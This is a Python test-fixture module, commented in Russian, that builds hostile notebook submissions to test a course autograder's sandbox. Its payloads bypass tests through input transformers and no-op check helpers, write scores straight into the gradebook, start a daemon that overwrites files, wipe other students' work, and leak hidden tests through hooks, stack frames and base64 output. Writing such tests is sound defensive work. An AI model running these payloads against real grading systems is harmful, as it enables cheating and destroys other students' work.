"""Корпус атак на проверку (issue 15): что делает решительный студент, чтобы получить баллы
даром, навредить другим или вынести скрытые тесты. Каждая атака — функция, портящая папку
работы, и ожидание: баллы по grade_id, нужна ли пометка «требует ручной проверки».

Атаки на заготовке (stub) должны дать 0 — иначе балл незаработанный; атаки на решении
проверяют, что вред не вышел из песочницы и что отзыв чист.
"""

from __future__ import annotations

import base64
import os
from collections.abc import Callable
from pathlib import Path

import nbformat
from badsubmissions import FULL, NOTEBOOK, ZERO, _edit_solution

MARKER = "course-attack-survivor"  # в командной строке процесса, который пытается пережить проверку

# Код, который ищет папку курса вверх от рабочей папки (как это делал студент из issue 15).
_WALK_UP = """
import os as _os
def _course_dirs():
    here, seen = _os.path.abspath(_os.getcwd()), []
    while True:
        seen.append(here)
        parent = _os.path.dirname(here)
        if parent == here:
            return seen
        here = parent
"""


def _first_solution(code: str) -> Callable[[Path], None]:
    """Код верхнего уровня — в конец первой ячейки решения (до всех тестов)."""
    return _edit_solution(lambda source: source + "\n" + code, grade_id="classify_workload")


def _stub_plus(code: str) -> Callable[[Path], None]:
    """Заготовка (ничего не решено) + атака: всё, что выше нуля, — незаработано."""
    return _first_solution(code)


INPUT_TRANSFORMER = "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])"
HIDDEN_TRANSFORMER = (  # то же, но без слов, которые ищет статический поиск
    "_ip = get_ipython()\n"
    "getattr(_ip, 'input_' + 'transformers_post').append(lambda lines: ['pass\\n'])"
)
NOOP_HELPERS = (
    "import importlib\n"
    "_m = importlib.import_module('course.' + 'checks')\n"
    "for _n in ('expect_equal', 'expect', 'call_with_deadline'):\n"
    "    _m.__dict__[_n] = lambda *a, **k: None"
)
GRADEBOOK_WRITE = _WALK_UP + """
import sqlite3 as _sq
for _d in _course_dirs():
    for _root, _dirs, _files in _os.walk(_d):
        if 'gradebook.db' in _files:
            _c = _sq.connect(_os.path.join(_root, 'gradebook.db'))
            _c.execute("update grade set manual_score = 100")
            _c.commit()
        if _root.count(_os.sep) - _d.count(_os.sep) > 3:
            _dirs[:] = []
"""
SURVIVOR = f"""
import subprocess as _sp, sys as _sys
_code = '''
import os, sys, time
if os.fork():
    os._exit(0)
os.setsid()
if os.fork():
    os._exit(0)
time.sleep(20)
here = os.getcwd()
while True:
    for root, dirs, files in os.walk(here):
        for name in files:
            if name.endswith((".db", ".csv", ".ipynb", ".html")):
                try:
                    open(os.path.join(root, name), "w").write("испорчено")
                except OSError:
                    pass
    if os.path.dirname(here) == here:
        break
    here = os.path.dirname(here)
'''
_sp.Popen([_sys.executable, '-c', _code, '{MARKER}'], start_new_session=True)
"""
HARM_OTHERS = _WALK_UP + """
for _d in _course_dirs():
    _sub = _os.path.join(_d, 'submitted')
    if _os.path.isdir(_sub):
        for _student in _os.listdir(_sub):
            for _root, _dirs, _files in _os.walk(_os.path.join(_sub, _student)):
                for _f in _files:
                    if _f.endswith('.ipynb'):
                        open(_os.path.join(_root, _f), 'w').write('{}')
            _fb = _os.path.join(_d, 'feedback', _student)
            _os.makedirs(_fb, exist_ok=True)
            open(_os.path.join(_fb, 'planted.html'), 'w').write('<h1>подброшено</h1>')
"""
READ_HIDDEN_FILES = _WALK_UP + """
import glob as _g
for _d in _course_dirs()[:6]:  # папка курса и её соседи: source/, solutions/, gradebook.db
    for _p in _g.glob(_os.path.join(_d, '*', '*', '*.ipynb')) + _g.glob(_os.path.join(_d, '*.db')):
        try:
            _t = open(_p, encoding='utf-8', errors='replace').read()
        except OSError:
            continue
        if 'BEGIN HIDDEN' in _t or 'source_cell' in _t:
            print(_t)
"""
# Обработчик события видит исходник каждой следующей ячейки — и скрытые тесты тоже.
READ_HIDDEN_HOOK = "get_ipython().events.register('pre_run_cell', lambda info: print(info.raw_cell))"
HIDDEN_HOOK = (  # то же, но мимо статического поиска: ловит зонд, а вывод чистит отзыв
    "getattr(get_ipython(), 'eve' + 'nts').register('pre_' + 'run_cell', lambda info: print(info.raw_cell))"
)
# Функция решения, вызванная из скрытого теста, читает исходник вызывающей ячейки через кадр
# стека и печатает его в base64 — мимо вычёркивания строк в отзыве. Ловит статический поиск.
READ_HIDDEN_FRAME = """
import base64 as _b64, linecache as _lc, sys as _sys
_solved = classify_workload
def classify_workload(*args, **kwargs):
    _code = _sys._getframe(1).f_code
    _text = ''.join(_lc.getlines(_code.co_filename))
    print(_b64.b64encode(_text.encode()).decode())
    return _solved(*args, **kwargs)
"""
READ_HIDDEN_HISTORY = """
import base64 as _b64
_solved = classify_workload
def classify_workload(*args, **kwargs):
    print(_b64.b64encode(In[-1].encode()).decode())  # ячейка теста, которая сейчас выполняется
    return _solved(*args, **kwargs)
"""
BIG_FILE = """
try:
    with open('big.bin', 'wb') as _f:
        _chunk = b'x' * 2**24
        for _ in range(128):  # 2 ГБ
            _f.write(_chunk)
except OSError as _e:
    print('запись прервана:', type(_e).__name__)
"""
# Решение, которое проходит видимую часть теста fetch_all (там max_workers=8), но падает на
# скрытой (max_workers=2): traceback упавшего скрытого expect печатает строки скрытого теста.
FAILS_HIDDEN = ("max_workers=max_workers", "max_workers=8")
HIDDEN_MESSAGE = "При max_workers=2 ожидалось ровно 2 запроса одновременно"  # сообщение проверки — можно


def _attachment(folder: Path) -> None:
    """Markdown-ячейка с вложенной «картинкой» в 30 МБ."""
    path = folder / NOTEBOOK
    nb = nbformat.read(path, as_version=4)
    blob = base64.b64encode(os.urandom(30 * 2**20 * 3 // 4)).decode()
    cell = nbformat.v4.new_markdown_cell("Мой график: ![график](attachment:plot.png)")
    cell.attachments = {"plot.png": {"image/png": blob}}
    nb.cells.insert(1, cell)
    nbformat.write(nb, path)


def _fails_hidden(folder: Path) -> None:
    _edit_solution(lambda source: source.replace(*FAILS_HIDDEN))(folder)


# имя → (порча, заготовка или решение, ожидаемые баллы, нужна ли пометка, подстрока причины)
ATTACKS: dict[str, tuple[Callable[[Path], None], str, dict[str, float], bool, str | None]] = {
    "input_transformer": (_stub_plus(INPUT_TRANSFORMER), "stub", ZERO, True, "требует ручной проверки"),
    "hidden_transformer": (_stub_plus(HIDDEN_TRANSFORMER), "stub", ZERO, True, "требует ручной проверки"),
    "noop_helpers": (_stub_plus(NOOP_HELPERS), "stub", ZERO, True, "требует ручной проверки"),
    "gradebook_write": (_first_solution(GRADEBOOK_WRITE), "good", FULL, False, None),
    "double_fork_survivor": (_first_solution(SURVIVOR), "good", FULL, False, None),
    "harm_others": (_first_solution(HARM_OTHERS), "good", FULL, False, None),
    "read_hidden_files": (_first_solution(READ_HIDDEN_FILES), "good", FULL, False, None),
    "read_hidden_hook": (_first_solution(READ_HIDDEN_HOOK), "good", ZERO, True, "требует ручной проверки"),
    "hidden_hook": (_first_solution(HIDDEN_HOOK), "good", ZERO, True, "требует ручной проверки"),
    "read_hidden_frame": (_first_solution(READ_HIDDEN_FRAME), "good", ZERO, True, "исходника (_getframe"),
    "read_hidden_history": (_first_solution(READ_HIDDEN_HISTORY), "good", ZERO, True, "исходника (In)"),
    "fails_hidden": (_fails_hidden, "good", FULL | {"fetch_all_test": 0.0}, False, None),
    "big_file": (_first_solution(BIG_FILE), "good", FULL, False, None),
    "attachment_30mb": (_attachment, "good", FULL, False, None),
}
# read_hidden_hook: обработчик pre_run_cell ставится в первой ячейке решения — ещё до первого теста,
# поэтому без баллов остаются все тесты (подмена замечена перед первым же).



def make_attack(root: Path, name: str, solutions: Path, release: Path) -> None:
    from badsubmissions import make_submission

    damage, base, _, _, _ = ATTACKS[name]
    make_submission(root, name, solutions, release, damage=damage, solved=base == "good")
